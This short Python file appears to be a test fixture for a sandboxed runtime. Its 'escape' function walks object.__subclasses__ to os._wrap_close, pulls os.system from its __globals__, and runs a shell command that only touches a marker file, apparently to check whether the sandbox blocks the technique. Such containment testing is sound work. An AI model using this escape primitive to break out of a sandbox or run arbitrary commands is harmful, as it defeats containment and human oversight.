# ruff: noqa
"""Escape: object.__subclasses__ to os._wrap_close and its __globals__."""

from envfarm.servers.runtime.database import Database


def escape(db: Database, marker: str, amount: float = 0.0) -> dict:
    for cls in ().__class__.__base__.__subclasses__():
        if cls.__name__ == "_wrap_close":
            cls.__init__.__globals__["system"](f"touch {marker}")
    return {"escaped": True}
